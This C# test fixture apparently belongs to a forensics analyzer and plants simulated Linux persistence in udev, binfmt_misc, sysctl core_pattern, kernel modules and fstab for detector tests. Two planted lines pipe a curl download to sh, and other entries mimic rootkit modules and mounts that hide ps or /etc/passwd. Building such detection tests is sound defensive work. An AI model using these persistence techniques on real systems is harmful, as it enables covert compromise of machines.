using System.IO.Compression;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>udev, binary formats, kernel settings, kernel modules, mounts.</summary>
internal static class KernelPlants
{
    private const string UdevFile = "/etc/udev/rules.d/99-net-tune.rules";
    private const string HiddenRule = "SUBSYSTEM==\"net\", ACTION==\"add\", \\\n  RUN+=\"/usr/lib/.cache-d/agent %k\"\n";

    public static IReadOnlyList<Plant> All { get; } = [.. Udev(), .. Binfmt(), .. Sysctl(), .. Modules(), .. Mounts()];

    private static Plant[] Udev() =>
    [
        new("L-UDEV", "memory-device", Quiet, tree => tree.File(UdevFile, "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"netsync run:+\"\n").Program("/usr/lib/udev/netsync")) { Entries = [UdevFile], Rule = "fires-at-boot" },
        new("L-UDEV", "hidden-program", Quiet, tree => tree.File(UdevFile, HiddenRule).Program("/usr/lib/.cache-d/agent")) { Entries = [UdevFile] },
        new("L-UDEV", "job-by-at", Quiet, tree => tree.File(UdevFile, "SUBSYSTEM==\"net\", KERNEL!=\"lo\", RUN{program}+=\"/usr/bin/at -M -f /usr/share/misc/netlink.sh now\"\n").Script("/usr/share/misc/netlink.sh", "#!/bin/sh\n/usr/sbin/ip-helper\n")) { Entries = [UdevFile], Rule = "schedules-job" },
        new("L-UDEV", "wants-unit", Quiet, tree => tree.File(UdevFile, "SUBSYSTEM==\"net\", TAG+=\"systemd\", ENV{SYSTEMD_WANTS}+=\"netmon-helper.service\"\n").Service("netmon-helper", "/usr/lib/.netmon/netmond", enabled: false).Program("/usr/lib/.netmon/netmond")) { Entries = [UdevFile, "/etc/systemd/system/netmon-helper.service"], Rule = "starts-unit" },
        new("L-UDEV", "wants-unit-plain-program", Quiet, tree => tree.File(UdevFile, "SUBSYSTEM==\"net\", TAG+=\"systemd\", ENV{SYSTEMD_WANTS}+=\"netmon@%k.service\", ENV{SYSTEMD_WANTS}+=\"netmon@eth0.service\"\n").File("/etc/systemd/system/netmon@.service", "[Service]\nExecStart=/usr/sbin/netmond %i\n").Program("/usr/sbin/netmond")) { Entries = [UdevFile], AtLeast = Severity.Medium },
        new("L-UDEV", "plain-program", Quiet, tree => tree.File(UdevFile, "SUBSYSTEM==\"block\", KERNEL==\"sd*\", PROGRAM==\"/usr/sbin/blk-probe %k\", NAME=\"x\"\n").Program("/usr/sbin/blk-probe")) { Entries = [UdevFile], AtLeast = Severity.Medium },
        new("L-UDEV", "download", Loud, tree => tree.File(UdevFile, "SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl -fsSL http://203.0.113.9/b.sh | sh'\"\n")),
        new("L-UDEV", "import-temporary", Quiet, tree => tree.File("/run/udev/rules.d/10-x.rules", "SUBSYSTEM==\"net\", IMPORT{program}=\"/var/tmp/ifinfo %k\"\n").Program("/var/tmp/ifinfo")) { Host = PlantHost.RedHat },
        new("L-UDEV", "hidden-program-alpine", Quiet, tree => tree.File(UdevFile, HiddenRule).Program("/usr/lib/.cache-d/agent")) { Host = PlantHost.Alpine, Entries = [UdevFile] },
        new("L-UDEV", "masked", Dormant, tree => tree.File("/usr/lib/udev/rules.d/99-net-tune.rules", HiddenRule).Link(UdevFile, "/dev/null").Program("/usr/lib/.cache-d/agent")) { TwinOf = "hidden-program" },
        new("L-UDEV", "hidden-by-name", Dormant, tree => tree.File("/usr/lib/udev/rules.d/99-net-tune.rules", HiddenRule).File(UdevFile, "# nothing\n").Program("/usr/lib/.cache-d/agent")) { TwinOf = "hidden-program" },
        new("L-UDEV", "wrong-suffix", Dormant, tree => tree.File(UdevFile + ".bak", HiddenRule).Program("/usr/lib/.cache-d/agent")) { TwinOf = "hidden-program" },
        new("L-UDEV", "persistent-net", Benign, tree => tree.File("/etc/udev/rules.d/70-persistent-net.rules", "SUBSYSTEM==\"net\", ACTION==\"add\", DRIVERS==\"?*\", ATTR{address}==\"52:54:00:12:34:56\", NAME=\"eth0\"\n")),
        new("L-UDEV", "administrators-rule", Benign, tree => tree.File("/etc/udev/rules.d/99-backlight.rules", "ACTION==\"add\", SUBSYSTEM==\"backlight\", RUN+=\"/usr/bin/chmod g+w /sys/class/backlight/%k/brightness\"\nACTION==\"add\", SUBSYSTEM==\"usb\", ATTR{idVendor}==\"05ac\", RUN+=\"/bin/sh -c 'echo 2000 > /sys$devpath/device/power/autosuspend_delay_ms'\"\n")),
        new("L-UDEV", "cloud-agent", Benign, tree => tree.Owned("ec2-utils", "/usr/lib/udev/rules.d/53-ec2-network-interfaces.rules", "ACTION==\"add\", SUBSYSTEM==\"net\", KERNEL==\"eth*\", RUN+=\"/usr/bin/systemctl --no-block start policy-routes@%k\"\nKERNEL==\"nvme[0-9]*n[0-9]*\", PROGRAM=\"ebsnvme-id -u /dev/%k\", SYMLINK+=\"%c\"\n").OwnedProgram("ec2-utils", "/usr/lib/udev/ebsnvme-id")),
        new("L-UDEV", "local-script", Benign, tree => tree.File("/etc/udev/rules.d/85-backup-disk.rules", "ACTION==\"add\", SUBSYSTEM==\"block\", ENV{ID_FS_LABEL}==\"backup\", RUN+=\"/usr/local/bin/start-backup.sh\"\n").Script("/usr/local/bin/start-backup.sh", "#!/bin/sh\n/usr/bin/systemctl --no-block start backup.service\n")),
    ];

    private static Plant[] Binfmt() =>
    [
        new("L-BINFMT", "native-with-credentials", Quiet, tree => tree.File("/etc/binfmt.d/ssl.conf", @":ssl:M::\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00::/usr/lib/ssl/ssl-helper:C" + "\n").Program("/usr/lib/ssl/ssl-helper")) { Entries = ["/etc/binfmt.d/ssl.conf"], AtLeast = Severity.Critical },
        new("L-BINFMT", "hidden-interpreter", Loud, tree => tree.File("/etc/binfmt.d/conv.conf", ":conv:E::cnv::/usr/share/.misc/conv:\n").Program("/usr/share/.misc/conv")),
        new("L-BINFMT", "all-scripts", Quiet, tree => tree.File("/etc/binfmt.d/shell.conf", ":shell:M::#!::/usr/bin/script-helper:O\n").Program("/usr/bin/script-helper")) { Entries = ["/etc/binfmt.d/shell.conf"], Rule = "takes-native-programs" },
        new("L-BINFMT", "plain-interpreter", Quiet, tree => tree.File("/usr/lib/binfmt.d/jar2.conf", ":jar2:E::jar2::/usr/lib/jvm/jar-run:\n").Program("/usr/lib/jvm/jar-run")) { Entries = ["/usr/lib/binfmt.d/jar2.conf"], AtLeast = Severity.Medium },
        new("L-BINFMT", "temporary-interpreter", Loud, tree => tree.File("/etc/binfmt.d/x.conf", ":x:M::PK\\x03\\x04::/tmp/.x/i:C\n").Program("/tmp/.x/i")),
        new("L-BINFMT", "unknown-packages", Quiet, tree => tree.File("/etc/binfmt.d/ssl.conf", @",ssl,M,,\x7fELF,,/usr/libexec/.l,FC" + "\n").Program("/usr/libexec/.l")) { Host = PlantHost.RedHat },
        new("L-BINFMT", "masked", Dormant, tree => tree.File("/usr/lib/binfmt.d/conv.conf", ":conv:E::cnv::/usr/share/.misc/conv:\n").Link("/etc/binfmt.d/conv.conf", "/dev/null").Program("/usr/share/.misc/conv")) { TwinOf = "hidden-interpreter" },
        new("L-BINFMT", "qemu", Benign, tree => tree.Owned("qemu-user-static", "/usr/lib/binfmt.d/qemu-aarch64.conf", @":qemu-aarch64:M::\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\xb7\x00:\xff\xff\xff\xff\xff\xff\xff\x00\xff\xff\xff\xff\xff\xff\xff\xff\xfe\xff\xff\xff:/usr/bin/qemu-aarch64-static:OCF" + "\n").OwnedProgram("qemu-user-static", "/usr/bin/qemu-aarch64-static")),
        new("L-BINFMT", "copied-qemu", Benign, tree => tree.File("/etc/binfmt.d/qemu-arm.conf", @":qemu-arm:M::\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00:\xff\xff\xff\xff\xff\xff\xff\x00\xff\xff\xff\xff\xff\xff\xff\xff\xfe\xff\xff\xff:/usr/local/bin/qemu-arm-static:OCF" + "\n").Program("/usr/local/bin/qemu-arm-static")),
        new("L-BINFMT", "python", Benign, tree => tree.Owned("python3.11", "/usr/lib/binfmt.d/python3.11.conf", @":python3.11:M::\xa7\x0d\x0d\x0a::/usr/bin/python3.11:" + "\n")),
    ];

    private static Plant[] Sysctl() =>
    [
        new("L-SYSCTL", "hidden-dump-reader", Loud, tree => tree.File("/etc/sysctl.d/99-crash.conf", "kernel.core_pattern=|/usr/bin/.c %P\n").Program("/usr/bin/.c")),
        new("L-SYSCTL", "plain-dump-reader", Quiet, tree => tree.File("/etc/sysctl.d/50-core.conf", "# crash handling\nkernel/core_pattern = |/usr/lib/crash/collector %p %e\n").Program("/usr/lib/crash/collector")) { Entries = ["/etc/sysctl.d/50-core.conf"], Rule = "core-pattern-program" },
        new("L-SYSCTL", "module-loader", Quiet, tree => tree.File("/etc/sysctl.conf", "-kernel.modprobe = /usr/sbin/modprobe-helper\n").Program("/usr/sbin/modprobe-helper")) { Entries = ["/etc/sysctl.conf"], Rule = "kernel-helper" },
        new("L-SYSCTL", "script-dump-reader", Quiet, tree => tree.File("/etc/sysctl.d/60-core.conf", "kernel.core_pattern=|/usr/share/misc/crash.sh %P\n").Script("/usr/share/misc/crash.sh", "#!/bin/sh\ncat >/dev/null\ncurl -fsSL http://203.0.113.9/b.sh | sh\n")) { Entries = ["/etc/sysctl.d/60-core.conf"] },
        new("L-SYSCTL", "temporary-dump-reader", Loud, tree => tree.File("/etc/sysctl.d/x.conf", "kernel.core_pattern=|/tmp/.x/core %P\n").Program("/tmp/.x/core")),
        new("L-SYSCTL", "unknown-packages", Quiet, tree => tree.File("/etc/sysctl.d/99-crash.conf", "kernel.core_pattern=|/usr/lib/.crash/c %P\n").Program("/usr/lib/.crash/c")) { Host = PlantHost.RedHat },
        new("L-SYSCTL", "overridden", Dormant, tree => tree.File("/etc/sysctl.d/99-crash.conf", "kernel.core_pattern=|/usr/bin/.c %P\n").File("/etc/sysctl.conf", "kernel.core_pattern=core\n").Program("/usr/bin/.c")) { TwinOf = "hidden-dump-reader" },
        new("L-SYSCTL", "wrong-suffix", Dormant, tree => tree.File("/etc/sysctl.d/99-crash.conf.dpkg-old", "kernel.core_pattern=|/usr/bin/.c %P\n").Program("/usr/bin/.c")) { TwinOf = "hidden-dump-reader" },
        new("L-SYSCTL", "apport", Benign, tree => tree.File("/etc/sysctl.d/60-apport.conf", "kernel.core_pattern=|/usr/share/apport/apport -p%p -s%s -c%c -d%d -P%P -u%u -g%g -F%F -- %E\n").Owned("apport", "/usr/share/apport/apport", "#!/usr/bin/python3\nimport sys\n", 0b111_101_101)),
        new("L-SYSCTL", "systemd-coredump", Benign, tree => tree.Owned("systemd", "/usr/lib/sysctl.d/50-coredump.conf", "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h\nkernel.core_pipe_limit=16\n").OwnedProgram("systemd", "/usr/lib/systemd/systemd-coredump")),
        new("L-SYSCTL", "database-host", Benign, tree => tree.File("/etc/sysctl.d/90-db.conf", "vm.nr_hugepages=1024\nvm.swappiness=1\nkernel.yama.ptrace_scope=0\nkernel.core_pattern=/var/crash/core.%e.%p\nkernel.nmi_watchdog=0\n")),
    ];

    private static Plant[] Modules() =>
    [
        new("L-KMOD", "unowned-and-loaded", Quiet, tree => tree.Kernel("kernel/drivers/net/netflt.ko").Module("kernel/drivers/net/netflt.ko", PlantedModule.Build("netflt")).File("/etc/modules-load.d/netflt.conf", "# packet filter\nnetflt\n")) { Entries = ["/etc/modules-load.d/netflt.conf"], Rule = "unowned-module" },
        new("L-KMOD", "compressed-rootkit", Quiet, tree => tree.Kernel().Module("kernel/drivers/block/blkhelper.ko.gz", Gzip(PlantedModule.Build("blkhelper", "dev", "register_kprobe", "kallsyms_lookup_name", "__x64_sys_getdents64", "give_root", "module_hide"))).File("/etc/modules", "loop\nblkhelper\n")) { Entries = ["/etc/modules"], AtLeast = Severity.Critical, Rule = "rootkit" },
        new("L-KMOD", "diamorphine", Loud, tree => tree.Kernel().Module("kernel/drivers/diamorphine.ko", PlantedModule.Build("diamorphine", "m0nad", "diamorphine_secret", "give_root", "hacked_getdents", "kallsyms_lookup_name"))) { AtLeast = Severity.Critical },
        new("L-KMOD", "hooking-in-extra", Quiet, tree => tree.Kernel("extra/fsmon.ko").Module("extra/fsmon.ko", PlantedModule.Build("fsmon", "Storage Team", "register_ftrace_function", "ftrace_set_filter_ip", "filldir64", "tcp4_seq_show")).File("/etc/modprobe.d/fs.conf", "softdep overlay pre: fsmon\n")) { Entries = ["/etc/modprobe.d/fs.conf"], Rule = "hooking-module" },
        new("L-KMOD", "install-command", Quiet, tree => tree.Kernel().File("/etc/modprobe.d/usbhid.conf", "install usbhid /usr/lib/.m/hidd; /usr/sbin/modprobe --ignore-install usbhid\n").Program("/usr/lib/.m/hidd")) { Entries = ["/etc/modprobe.d/usbhid.conf"] },
        new("L-KMOD", "install-plain-command", Quiet, tree => tree.Kernel().File("/etc/modprobe.d/usbhid.conf", "install usbhid /usr/sbin/hid-setup && \\\n  /usr/sbin/modprobe --ignore-install usbhid\n").Program("/usr/sbin/hid-setup")) { Entries = ["/etc/modprobe.d/usbhid.conf"], AtLeast = Severity.Medium },
        new("L-KMOD", "inserted-by-hand", Quiet, tree => tree.Kernel().Script("/etc/rc.local", "#!/bin/sh\n/usr/sbin/insmod /usr/share/.fonts/x.ko\nexit 0\n").OwnedProgram("kmod", "/usr/sbin/insmod").Add(new PlantedFile("/usr/share/.fonts/x.ko", Parsers.FileType.Regular) { Content = PlantedModule.Build("x") })) { Entries = ["/etc/rc.local"], Rule = "inserts-file" },
        new("L-KMOD", "unowned-alpine", Quiet, tree => tree.Kernel().Module("kernel/net/netlink.ko", PlantedModule.Build("netlink")).File("/etc/modules", "af_packet\nnetlink\n")) { Host = PlantHost.Alpine, Entries = ["/etc/modules"] },
        new("L-KMOD", "wrong-suffix", Dormant, tree => tree.Kernel().File("/etc/modprobe.d/usbhid.conf.rpmsave", "install usbhid /usr/lib/.m/hidd; /usr/sbin/modprobe --ignore-install usbhid\n").Program("/usr/lib/.m/hidd")) { TwinOf = "install-command" },
        new("L-KMOD", "hardening", Benign, tree => tree.Kernel().File("/etc/modprobe.d/cis.conf", "install usb-storage /bin/true\ninstall cramfs /bin/false\nblacklist pcspkr\noptions usbhid mousepoll=4\n").File("/etc/modules-load.d/k8s.conf", "overlay\nbr_netfilter\nmsr\n")),
        new("L-KMOD", "dkms", Benign, tree => tree.Kernel("updates/dkms/nvidia.ko").Module("updates/dkms/nvidia.ko", PlantedModule.Build("nvidia", "NVIDIA", "register_kprobe")).Module("misc/vboxdrv.ko", PlantedModule.Build("vboxdrv", "Oracle", "kallsyms_lookup_name")).File("/etc/modules-load.d/nvidia.conf", "nvidia\nvboxdrv\n")),
        new("L-KMOD", "stock", Benign, tree => tree.Kernel().Owned("kmod", "/usr/lib/modprobe.d/fuse.conf", "install fuse /usr/sbin/modprobe --ignore-install fuse\n").File("/etc/modules", "# /etc/modules: kernel modules to load at boot time.\n\nloop\n")),
    ];

    private static Plant[] Mounts() =>
    [
        new("L-FSTAB", "covers-process", Quiet, tree => tree.Append("/etc/fstab", "tmpfs /proc/1234 tmpfs size=1k 0 0\n")) { Entries = ["/etc/fstab"] },
        new("L-FSTAB", "covers-ps", Quiet, tree => tree.Append("/etc/fstab", "/usr/share/misc/procs /usr/bin/ps none bind 0 0\n").Program("/usr/share/misc/procs")) { Entries = ["/etc/fstab"] },
        new("L-FSTAB", "overlay-of-programs", Quiet, tree => tree.Append("/etc/fstab", "overlay /usr/bin overlay lowerdir=/usr/bin,upperdir=/var/lib/.up,workdir=/var/lib/.wk 0 0\n")) { Entries = ["/etc/fstab"] },
        new("L-FSTAB", "hidden-image", Loud, tree => tree.Append("/etc/fstab", "/usr/lib/.data.img /opt/data ext4 loop,ro 0 0\n")) { AtLeast = Severity.Medium },
        new("L-FSTAB", "hidden-fuse-program", Loud, tree => tree.Append("/etc/fstab", "/usr/lib/.fs/mnt#data /mnt/data fuse allow_other 0 0\n").Program("/usr/lib/.fs/mnt")),
        new("L-FSTAB", "covers-accounts", Quiet, tree => tree.Append("/etc/fstab", "/var/lib/misc/p.db /etc/passwd none bind,ro 0 0\n")) { Entries = ["/etc/fstab"], Host = PlantHost.Alpine },
        new("L-FSTAB", "not-mounted", Dormant, tree => tree.Append("/etc/fstab", "/usr/share/misc/procs /usr/bin/ps none bind,noauto 0 0\n").Program("/usr/share/misc/procs")) { TwinOf = "covers-ps" },
        new("L-FSTAB", "hardened", Benign, tree => tree.Append("/etc/fstab", "proc /proc proc defaults,hidepid=2 0 0\n/.swapfile none swap sw 0 0\ntmpfs /tmp tmpfs nosuid,nodev,noexec 0 0\ntmpfs /dev/shm tmpfs defaults,noexec 0 0\n")),
        new("L-FSTAB", "server", Benign, tree => tree.Append("/etc/fstab", "/srv/data /home/ftp none bind 0 0\nnas:/vol1 /mnt/nas nfs4 rw,_netdev 0 0\n//nas/x /mnt/x cifs credentials=/root/.smbcredentials 0 0\nlog2ram /var/log tmpfs size=50M 0 0\nLABEL=root /.snapshots btrfs subvol=@snapshots 0 0\n")),
        new("L-FSTAB", "installer-image", Benign, tree => tree.Append("/etc/fstab", "/var/lib/images/rhel9.iso /mnt/repo iso9660 loop,ro 0 0\noverlay /srv/merged overlay lowerdir=/srv/a:/srv/b,upperdir=/srv/up,workdir=/srv/work 0 0\n")),
    ];

    private static byte[] Gzip(byte[] content)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(content);
        }
        return packed.ToArray();
    }
}
